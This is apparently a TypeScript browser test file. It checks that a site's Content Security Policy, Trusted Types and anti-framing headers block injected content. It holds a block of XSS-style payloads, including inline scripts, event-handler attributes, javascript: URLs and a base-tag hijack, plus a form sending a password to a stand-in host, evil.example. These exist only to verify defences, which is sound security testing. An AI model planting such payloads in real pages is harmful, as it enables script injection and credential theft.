import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from 'vitest'
import { readEnv } from '#kit/server/settings/env.ts'
import { afterFile } from '#testing/after-file.ts'
import { launchChromium } from '#testing/chromium.ts'
import { openSite } from '#testing/site.ts'
import { openTab, type Tab } from './tab.ts'

const env = readEnv({ PUBLIC_URL: 'http://localhost:3000', PAYPAL_CLIENT_ID: 'a', PAYPAL_CLIENT_SECRET: 'b' })
const site = await openSite({ env })
const browser = await launchChromium()

/** What an attacker would leave in a page that let them. */
const evil = `
  <script>window.hacked = 'an inline script'</script>
  <script src="https://evil.example/foreign.js"></script>
  <script src="data:text/javascript,window.hacked='a script in an address'"></script>
  <base href="https://evil.example/">
  <img src="/nothing" alt="" onerror="window.hacked = 'an attribute'">
  <svg onload="window.hacked = 'a drawing'"></svg>
  <link rel="stylesheet" href="https://evil.example/foreign.css">
  <img src="https://evil.example/spy.png" alt="">
  <iframe src="https://evil.example/frame"></iframe>
  <iframe srcdoc="<script>parent.hacked = 'a frame'</script>"></iframe>
  <object data="https://evil.example/object"></object>
  <a id="evil-link" href="javascript:window.hacked='a link'">link</a>
  <form id="evil-form" action="https://evil.example/steal"><input name="password" value="secret"></form>
  <meta http-equiv="refresh" content="0;url=javascript:window.hacked='a refresh'">`

/** The page as it came, with this in it. */
async function spoil(tab: Tab, address: string) {
  await tab.route(`**${address}`, async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace(/<body[^>]*>/, (start) => start + evil)
    await route.fulfill({ response, body })
  })
}

/** Ways to turn text into something that runs, or that is shown as HTML; the names of those that worked. */
const open = (tab: Tab) =>
  tab.evaluate(async () => {
    // What the test itself runs may do more than the page: from here on it is the page's own.
    await new Promise((done) => setTimeout(done))
    const frame = document.createElement('iframe')
    const element = document.createElement('div')
    document.body.append(element, frame)
    const text = '<img src="/nothing" onerror="window.hacked = 1">'
    const script = () => document.createElement('script')
    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (name: string, of: object) => void } }
    const sinks: Record<string, () => unknown> = {
      innerHTML: () => Object.assign(element, { innerHTML: text }),
      insertAdjacentHTML: () => element.insertAdjacentHTML('beforeend', text),
      srcdoc: () => Object.assign(frame, { srcdoc: text }),
      'an attribute srcdoc': () => frame.setAttribute('srcdoc', text),
      'a parsed fragment': () => document.createRange().createContextualFragment(text),
      'a parsed document': () => new DOMParser().parseFromString(text, 'text/html'),
      'the text of a script': () => document.head.append(Object.assign(script(), { text: 'window.hacked = 2' })),
      'the address of a script': () => Object.assign(script(), { src: '/assets/nothing.js' }),
      'a worker': () => new Worker('/assets/nothing.js'),
      // biome-ignore lint/security/noGlobalEval: that it fails is the test
      eval: () => window.eval('1'),
      Function: () => new Function('return 1')(),
      'a policy of its own': () => trustedTypes.createPolicy('mine', {}),
      'a policy for everything': () => trustedTypes.createPolicy('default', {}),
    }
    return Object.entries(sinks).flatMap(([name, work]) => {
      try {
        work()
        return [name]
      } catch {
        return []
      }
    })
  })

const complaints =
  /Content Security Policy|Trusted|violates|Refused|evil\.example|X-Frame|status of 404|\/nothing|csp|javascript:|chrome-error/i

/** What only Trusted Types forbid. Nothing that comes of it runs either. */
const forPaypal = [
  ...['innerHTML', 'insertAdjacentHTML', 'srcdoc', 'an attribute srcdoc', 'a parsed fragment', 'a parsed document'],
  ...['the text of a script', 'the address of a script', 'a worker', 'a policy of its own', 'a policy for everything'],
]

test.each([
  ['/imprint', []],
  ['/PresentationPro/imprint', []],
  ['/ArtAlley/about', []],
  ['/RentalRevolution/imprint', forPaypal],
])('What an attacker gets into %s does nothing and reaches nobody.', async (address, allowed) => {
  const tab = await openTab(browser, site)
  tab.allowComplaint(complaints)
  const reached: string[] = []
  await tab.context().route('https://evil.example/**', (route) => {
    reached.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: "window.hacked = 'from elsewhere'" })
  })
  await spoil(tab, address)
  await tab.goto(address)
  await tab.locator('h1').waitFor()
  expect(await tab.locator('#evil-form').count()).toBe(1)
  await tab.evaluate(() => {
    document.querySelector<HTMLAnchorElement>('#evil-link')?.click()
    document.querySelector<HTMLFormElement>('#evil-form')?.submit()
  })
  expect(await open(tab)).toEqual(allowed)
  await tab.untilQuiet()
  expect(new URL(tab.url()).pathname).toBe(address)
  expect(await tab.evaluate(() => (window as { hacked?: unknown }).hacked)).toBeUndefined()
  expect(reached).toEqual([])
})

test('No page of another origin may show ours in a frame, and its window learns nothing of ours.', async () => {
  const thirdParty = createServer((_, response) =>
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end(`<title>Stranger</title><iframe src="${site.url}/imprint"></iframe>`),
  )
  await new Promise<void>((done) => thirdParty.listen(0, '127.0.0.1', done))
  afterFile(() => new Promise((done) => thirdParty.close(done)))
  const address = `http://localhost:${(thirdParty.address() as AddressInfo).port}/`
  const tab = await openTab(browser, site)
  tab.expectComplaint(/frame-ancestors 'none'/)
  tab.allowComplaint(/favicon|404|ERR_BLOCKED_BY_RESPONSE/)
  await tab.goto(address)
  await tab.untilQuiet()
  // What a browser shows instead is its own, with a heading or without.
  expect(await Promise.all(tab.frames().map((frame) => frame.evaluate(() => origin)))).toEqual([
    new URL(address).origin,
    'null',
  ])
  const [ours] = await Promise.all([
    tab.context().waitForEvent('page'),
    tab.evaluate((url) => {
      Object.assign(window, { theirs: window.open(url) })
    }, `${site.url}/imprint`),
  ])
  await ours.locator('h1').waitFor()
  expect(await ours.evaluate(() => window.opener)).toBeNull()
  await expect.poll(() => tab.evaluate(() => (window as { theirs?: Window }).theirs?.closed)).toBe(true)
})

test('Who goes from a page that may show PayPal to one that may not gets a page of its own, and back.', async () => {
  const tab = await openTab(browser, site, { as: 'root' })
  tab.allowComplaint(complaints)
  await tab.goto('/RentalRevolution/imprint')
  await tab.locator('h1').waitFor()
  expect(await open(tab)).toContain('innerHTML')
  await tab.evaluate(() => history.pushState(null, '', '/RentalRevolution/internal'))
  await tab.getByRole('heading', { level: 1, name: 'Main Menu' }).waitFor()
  expect(await open(tab)).toEqual([])
  await tab.goBack()
  await tab.getByRole('heading', { level: 1, name: 'Imprint' }).waitFor()
  expect(await open(tab)).toContain('innerHTML')
})
